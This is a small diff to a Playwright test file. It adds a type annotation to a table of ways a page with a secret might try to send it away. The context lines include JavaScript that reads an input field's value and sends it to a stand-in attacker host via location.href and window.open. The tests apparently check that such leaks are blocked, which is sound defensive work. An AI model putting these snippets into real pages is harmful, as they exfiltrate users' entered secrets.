@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 import pytest
 from playwright.sync_api import Browser, BrowserContext, Error, Page, Route
@@ -140,7 +140,7 @@ def test_an_unencrypted_application_gets_nothing(page: Page, world: World) -> No
 
 # ---------------------------------------------------------------- a page with a secret stays at home
 
-AWAY = {
+AWAY: dict[str, Callable[[Page], object]] = {
     "a form": lambda page: page.locator("button").click(),
     "a script": lambda page: page.evaluate(f"location.href = '{EVIL}/?' + document.querySelector('input').value"),
     "a window": lambda page: page.evaluate(f"window.open('{EVIL}/?' + document.querySelector('input').value) && 0"),
